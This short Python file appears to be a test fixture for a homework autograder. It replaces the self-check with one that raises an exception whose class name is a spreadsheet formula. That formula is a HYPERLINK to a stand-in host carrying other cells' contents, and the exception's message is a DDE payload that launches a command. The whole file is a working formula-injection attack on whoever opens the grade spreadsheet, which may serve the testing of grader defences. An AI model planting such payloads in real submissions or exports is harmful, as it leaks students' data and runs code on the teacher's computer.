# ruff: noqa: F821  (LOOT, np and exfiltrate come from _common.py; __NAMES__ are filled in by the test)
"""Run a formula in the teacher's spreadsheet: the test cell raises an exception whose class name is a
formula, so that the feedback (the exception's name and message) starts with "=" (a spreadsheet that
evaluates formulas on import would fetch a URL with the row's other cells in it)."""

from lstm_lab import homework as hw

Formula = type('=HYPERLINK("https://example.invalid/?"&A2&D2,"feedback")', (Exception,), {})


def check(*args, **kwargs):
    raise Formula("+1+cmd|' /C calc'!A0")


hw.self_check = check
